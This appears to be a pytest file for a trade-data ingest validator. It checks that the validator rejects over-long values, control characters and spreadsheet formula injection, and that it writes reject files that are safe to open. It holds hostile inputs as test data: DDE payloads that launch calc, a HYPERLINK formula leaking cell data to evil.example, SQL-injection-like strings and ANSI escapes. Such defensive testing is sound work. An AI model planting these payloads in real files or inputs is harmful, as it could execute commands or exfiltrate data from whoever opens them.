"""Hostile text at the contract boundary: length limits, control characters, formulas."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from tests.contract.rows import ENTRY, LINE

from tradeguard.contract import SCHEMAS, DType, contract_markdown, open_source, validate_batch
from tradeguard.contract.free_text import MAX_CHARS, TextKind, spreadsheet_safe
from tradeguard.contract.quarantine import RejectsWriter, rejects_path
from tradeguard.contract.schema import CLOSED_FORMAT
from tradeguard.contract.validate import CheckedBatch

TODAY = date(2026, 11, 25)
DDE = "=cmd|' /C calc'!A0"


def check(kind: str, rows: list[dict[str, Any]]) -> CheckedBatch:
    columns = list(dict.fromkeys(k for r in rows for k in r))
    frame = pl.DataFrame(
        {c: [r.get(c) for r in rows] for c in columns}, schema=dict.fromkeys(columns, pl.String)
    ).with_columns(pl.int_range(2, 2 + len(rows)).alias("__row"))
    return validate_batch(frame, SCHEMAS[kind], today=TODAY)


def rejection(kind: str, base: dict[str, str], field: str, value: str) -> tuple[str, str]:
    """(fields, reasons) of the one row ``base`` with ``field`` set to ``value``."""
    batch = check(kind, [{**base, field: value}])
    assert batch.accepted.is_empty(), f"{value[:40]!r} in {field} was accepted"
    row = batch.rejected.row(0, named=True)
    assert row["row_number"] == 2
    return row["fields"], row["reasons"]


@pytest.mark.parametrize(
    "value",
    [
        DDE,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '-HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "\t=1+1",  # a leading tab or CR is trimmed: the formula behind it is still seen
        "\r@SUM(A1:A9)",
        "=1+1",
    ],
)
def test_formula_injection_is_rejected_with_field_and_reason(value: str) -> None:
    fields, reasons = rejection("entries", ENTRY, "importer_name", value)
    assert fields == "importer_name"
    assert reasons.startswith("importer_name: possible spreadsheet formula '")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("description", "- 20 PCS (CARTONS)"),
        ("description", "+/- 5% TOLERANCE, 100 PCS"),
        ("description", '-12" STEEL PIPE, SCH 40'),
        ("description", "-40C FREEZER PARTS"),
        ("manufacturer_address", "+86 21 5555 1234, No. 8 Road (East), Shanghai"),
        ("seller_name", "-"),
        ("manufacturer_name", "x'; DROP TABLE entries;--"),  # SQL-like text: storage binds it
        ("manufacturer_name", "Société Générale – Zürich"),
        ("manufacturer_name", "AT&T + PARTNERS (HK) LTD"),
        ("manufacturer_address", "Room 5\nBuilding 2\tNo. 8 Road"),  # multi-line address
        ("description", "MEN'S SHIRTS\r\n100% COTTON"),
    ],
)
def test_legitimate_look_alikes_are_accepted(field: str, value: str) -> None:
    batch = check("lines", [{**LINE, field: value}])
    assert batch.rejected.is_empty(), batch.rejected["reasons"].to_list()
    assert batch.accepted[field][0] == value.strip()


@pytest.mark.parametrize(
    ("kind", "base", "field", "limit"),
    [
        ("entries", ENTRY, "bill_of_lading", 64),
        ("entries", ENTRY, "importer_name", 500),
        ("lines", LINE, "description", 2_000),
        ("lines", LINE, "manufacturer_address", 500),
        ("lines", LINE, "chapter99_numbers", 500),
    ],
)
def test_values_longer_than_the_field_limit_are_rejected(
    kind: str, base: dict[str, str], field: str, limit: int
) -> None:
    at_limit = check(kind, [{**base, field: "X" * limit}])
    assert at_limit.rejected.is_empty()
    fields, reasons = rejection(kind, base, field, "X" * (limit + 1))
    assert fields == field
    assert f"{field}: longer than {limit:,} characters ({limit + 1} given)" in reasons


def test_a_huge_value_is_rejected_and_its_reason_stays_short() -> None:
    fields, reasons = rejection("entries", ENTRY, "bill_of_lading", "X" * 100_000)
    assert fields == "bill_of_lading"
    assert "longer than 64 characters (100000 given)" in reasons
    assert len(reasons) < 300


def test_length_counts_characters_not_bytes() -> None:
    name = "上海贸易有限公司" * 62 + "公司"  # 498 characters, about 1,500 bytes
    batch = check("entries", [{**ENTRY, "importer_name": name}])
    assert batch.rejected.is_empty()


@pytest.mark.parametrize(
    ("value", "first"),
    [
        ("1 Main St\x00\x1b[31m\x07", "U+0000"),
        ("ACME\x1b[2J LTD", "U+001B"),
        ("ACME\x07", "U+0007"),
        ("ACME\x7f", "U+007F"),
        ("ACME\x85 LTD", "U+0085"),  # C1 next line
        ("ACME\tLTD", "U+0009"),  # tab is layout only in addresses and descriptions
        ("ACME\nLTD", "U+000A"),
    ],
)
def test_control_characters_are_rejected_and_not_echoed(value: str, first: str) -> None:
    fields, reasons = rejection("entries", ENTRY, "importer_name", value)
    assert fields == "importer_name"
    assert f"contains control characters (first {first})" in reasons
    assert not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in reasons)


def test_control_characters_in_an_address_are_rejected_but_line_breaks_are_not() -> None:
    fields, reasons = rejection("lines", LINE, "manufacturer_address", "No. 8\nRoad\x1b[0m")
    assert fields == "manufacturer_address"
    assert "first U+001B" in reasons


def test_every_hostile_field_of_a_row_is_named() -> None:
    batch = check("lines", [{**LINE, "manufacturer_name": DDE, "description": "X" * 2_001}])
    row = batch.rejected.row(0, named=True)
    assert set(row["fields"].split(";")) == {"manufacturer_name", "description"}


def test_extra_columns_get_the_same_rules() -> None:
    fields, reasons = rejection("entries", ENTRY, "broker_note", '=HYPERLINK("x")')
    assert fields == "broker_note"
    assert "possible spreadsheet formula" in reasons
    ok = check("entries", [{**ENTRY, "broker_note": "-3.5", "ref": "+1 800 555 0100"}])
    assert ok.rejected.is_empty()


def test_every_free_text_field_has_a_documented_limit() -> None:
    fields = [f for s in SCHEMAS.values() for f in s.fields]
    free = [f for f in fields if f.dtype is DType.TEXT and not CLOSED_FORMAT & set(f.rules)]
    assert len(free) > 20 and all(f.max_chars in MAX_CHARS.values() for f in free)
    assert all(f.max_chars is None for f in fields if f not in free)
    assert SCHEMAS["lines"].field("description").text_kind is TextKind.DESCRIPTION
    assert "| bill_of_lading | text | upper-cased; at most 64 characters |" in contract_markdown()


@pytest.mark.parametrize(
    ("kind", "base", "field", "value"),
    [
        ("entries", ENTRY, "port_of_entry", "5301' OR '1'='1"),
        ("entries", ENTRY, "importer_country", "=CN"),
        ("entries", ENTRY, "port_of_lading", "CN\x1bSHA"),
        ("lines", LINE, "hts_code", "6109" + "1" * 100_000),
        ("lines", LINE, "adcvd_case_number", "@A-570-979"),
    ],
)
def test_closed_codes_reject_hostile_text_by_their_format(
    kind: str, base: dict[str, str], field: str, value: str
) -> None:
    fields, reasons = rejection(kind, base, field, value)
    assert fields == field
    assert len(reasons) < 300 and "\x1b" not in reasons


def test_spreadsheet_safe_prefixes_only_formula_leading_text() -> None:
    frame = pl.DataFrame(
        {
            "cell": ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a=1", "1-2", None],
            "row": list(range(9)),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["cell"].to_list() == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "a=1", "1-2", None
    ]  # fmt: skip
    assert safe["row"].to_list() == list(range(9))


def test_rejects_csv_from_a_hostile_file_is_safe_to_open(tmp_path: Path) -> None:
    """A real file through reader, validator and rejects writer, as ingest runs them."""
    header = "=cmd|' /C calc'!A0 note"  # a hostile extra column name
    rows = [
        {**ENTRY, "entry_number": "ABC-1234567-1", header: ""},
        {**ENTRY, "entry_number": "ABC-1234567-2", "importer_name": DDE, header: ""},
        {**ENTRY, "entry_number": "ABC-1234567-3", "bill_of_lading": "X" * 100_000, header: ""},
        {**ENTRY, "entry_number": "ABC-1234567-4", header: "@SUM(1+1)*cmd|' /C calc'!A0"},
    ]
    path = tmp_path / "entries.csv"
    pl.DataFrame(rows).write_csv(path)
    writer = RejectsWriter(rejects_path(tmp_path / "q", path))
    accepted = []
    with open_source(path) as source:
        for batch in source.batches(1_000):
            checked = validate_batch(batch, source.schema, today=TODAY)
            writer.write(checked.rejected)
            accepted.append(checked.accepted)
    assert pl.concat(accepted)["entry_number"].to_list() == ["ABC-1234567-1"]
    assert writer.written == tmp_path / "q" / "entries.csv.rejects.csv"

    with open(writer.path, encoding="utf-8", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert [r["row"] for r in records] == ["3", "4", "5"]
    assert [r["fields"] for r in records] == ["importer_name", "bill_of_lading", "'" + header]
    assert "longer than 64 characters" in records[1]["reasons"]
    cells = [c for r in records for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The raw row is kept whole (never dropped or cut), as JSON.
    assert json.loads(records[0]["raw_row"])["importer_name"] == DDE
    assert len(json.loads(records[1]["raw_row"])["bill_of_lading"]) == 100_000
